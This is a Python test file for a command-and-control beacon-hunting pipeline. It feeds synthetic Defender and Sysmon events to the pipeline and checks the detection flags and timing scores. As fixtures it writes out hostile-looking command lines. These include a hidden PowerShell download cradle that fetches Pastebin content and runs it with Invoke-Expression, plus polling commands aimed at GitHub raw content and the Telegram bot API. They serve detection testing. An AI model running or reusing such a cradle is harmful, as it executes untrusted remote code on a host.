"""The hunting query's four validation tests, as Defender and as Sysmon would record them.

1 PowerShell fetches Pastebin; 2 Python polls raw.githubusercontent.com three times at 30 s;
3 curl asks Telegram; 4 a scheduled task runs PowerShell. (Values constructed.)
"""

import json
from pathlib import Path

import polars as pl
import pytest
from events import event, frame

from beacon import pipeline
from beacon.settings import Settings

POWERSHELL = (
    'powershell.exe -WindowStyle Hidden -Command "$c=(Invoke-WebRequest '
    'https://pastebin.com/raw/XXXX).Content; Invoke-Expression $c"'
)
PYTHON = (
    "python -c \"import urllib.request as u,time; [(u.urlopen('https://raw.githubusercontent.com"
    "/o/r/main/c.txt').read(), time.sleep(30)) for _ in range(3)]\""
)
CURL = r"curl.exe -s -o C:\Temp\tg_response.txt https://api.telegram.org/bot000:TEST/getUpdates"
TASK = (
    'powershell.exe -WindowStyle Hidden -Command "Invoke-WebRequest '
    'https://raw.githubusercontent.com/o/r/main/c.txt"'
)
POLLS = (0.0, 30.08, 60.15)  # sleep(30) and the time the request takes

# process, command line, URL, parent, seconds of its connections; expected: Enc, Sched, Script, Susp
TESTS = {
    "powershell": ("powershell.exe", POWERSHELL, "pastebin.com", "cmd.exe", (0.0,), "FFFF"),
    "python": ("python.exe", PYTHON, "raw.githubusercontent.com", "cmd.exe", POLLS, "FFFF"),
    "curl": ("curl.exe", CURL, "api.telegram.org", "cmd.exe", (0.0,), "FFFF"),
    "task": ("powershell.exe", TASK, "raw.githubusercontent.com", "svchost.exe", (0.0,), "FTFF"),
    # What the four leave out: an encoded command, a scripting host, an Office parent in capitals.
    "encoded": ("powershell.exe", "powershell -enc JABj", "t.me", "cmd.exe", (0.0,), "TFFF"),
    "script": ("wscript.exe", "wscript a.vbs", "github.com", "explorer.exe", (0.0,), "FFTF"),
    "office": ("cmd.exe", "cmd /c x", "github.com", "WINWORD.EXE", (0.0,), "FFFT"),
}
FLAGS = ("IsEncodedCmd", "IsScheduledOrService", "IsScriptingHost", "SuspiciousParent")


def as_defender(test: str, folder: Path) -> Path:
    process, line, url, parent, seconds, _ = TESTS[test]
    rows = [
        event(
            s,
            InitiatingProcessFileName=process,
            InitiatingProcessCommandLine=line,
            RemoteUrl=url,
            RemoteIP=f"185.199.108.{i}",
            InitiatingProcessParentFileName=parent,
        )
        for i, s in enumerate(seconds)
    ]
    path = folder / "day.parquet"
    frame(rows).write_parquet(path)
    return path


def as_sysmon(test: str, folder: Path) -> Path:
    process, line, url, parent, seconds, _ = TESTS[test]
    image = f"C:\\Windows\\System32\\{process}"
    guid = "{a1b2c3d4-0003-69f9-0300-000000000700}"
    common = {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "SourceName": "Microsoft-Windows-Sysmon",
        "Hostname": "WS-014",
        "ProcessGuid": guid,
        "ProcessId": "6300",
        "Image": image,
    }
    lines = [
        {
            **common, "EventID": 1, "UtcTime": clock(-0.1), "CommandLine": line,
            "User": "CORP\\jdoe", "IntegrityLevel": "Medium",
            "ParentImage": f"C:\\Windows\\{parent}", "ParentCommandLine": parent,
        },
        {
            **common, "EventID": 22, "UtcTime": clock(-0.04), "QueryName": url,
            "QueryStatus": "0", "QueryResults": "type:  5 cdn.example;::ffff:149.154.167.220;",
        },
    ]  # fmt: skip
    lines += [
        {
            **common, "EventID": 3, "UtcTime": clock(s), "User": "CORP\\jdoe", "Protocol": "tcp",
            "Initiated": "true", "SourceIp": "10.0.0.14", "SourcePort": str(50210 + i),
            "DestinationIp": "149.154.167.220", "DestinationPort": "443",
            # A reverse name that would fake another rule key: it must never be used.
            "DestinationHostname": "cdn-185-199-108-133.github.com",
        }
        for i, s in enumerate(seconds)
    ]  # fmt: skip
    path = folder / "sysmon.json"
    path.write_text("".join(json.dumps(row) + "\n" for row in lines), encoding="utf-8")
    return path


def clock(seconds: float) -> str:
    return f"{event(seconds)['Timestamp']:%Y-%m-%d %H:%M:%S.%f}"[:-3]


FORMS = [as_defender, as_sysmon]


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("test", TESTS)
def test_it_passes_the_rule_with_its_flags(test: str, form, tmp_path: Path) -> None:
    *_, url, _, seconds, expected = TESTS[test]
    rows = pipeline.keep(form(test, tmp_path), Settings()).rows
    assert rows.height == len(seconds)
    assert rows["RemoteUrl"].unique().to_list() == [url]
    assert rows.select(FLAGS).unique().row(0) == tuple(flag == "T" for flag in expected)


@pytest.mark.parametrize("form", FORMS)
def test_three_polls_at_30_s_are_weak_evidence_with_their_period(form, tmp_path: Path) -> None:
    channel = pipeline.score(form("python", tmp_path), Settings()).channels.row(0, named=True)
    assert channel["polls"] == 3
    assert channel["period_seconds"] == pytest.approx(30.1, abs=0.2)
    assert channel["status"] == "insufficient"
    assert 0 < channel["timing_evidence"] < 2.5
    assert 1e-4 < channel["score"] < 0.5
    assert "3 polls: too few to judge timing" in channel["quality"]


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("test", ["powershell", "curl", "task"])
def test_one_connection_is_insufficient_not_innocent(test: str, form, tmp_path: Path) -> None:
    channel = pipeline.score(form(test, tmp_path), Settings()).channels.row(0, named=True)
    assert channel["status"] == "insufficient"
    assert channel["period_seconds"] is None
    assert channel["timing_evidence"] == 0
    timing = next(e for e in channel["evidence"] if e["name"] == "timing")
    assert timing["state"] == "not observable"


def test_both_forms_give_the_same_channel(tmp_path: Path) -> None:
    defender, sysmon = (
        pipeline.score(form("python", tmp_path), Settings())
        # Defender writes the parent's command line in another table, which is not here.
        .channels.drop("host", "alert_id", "evidence", "first_seen", "last_seen")
        .drop("parent_command_line")
        .with_columns(pl.col(pl.Float64).round(2))
        for form in FORMS
    )
    assert defender.equals(sysmon)
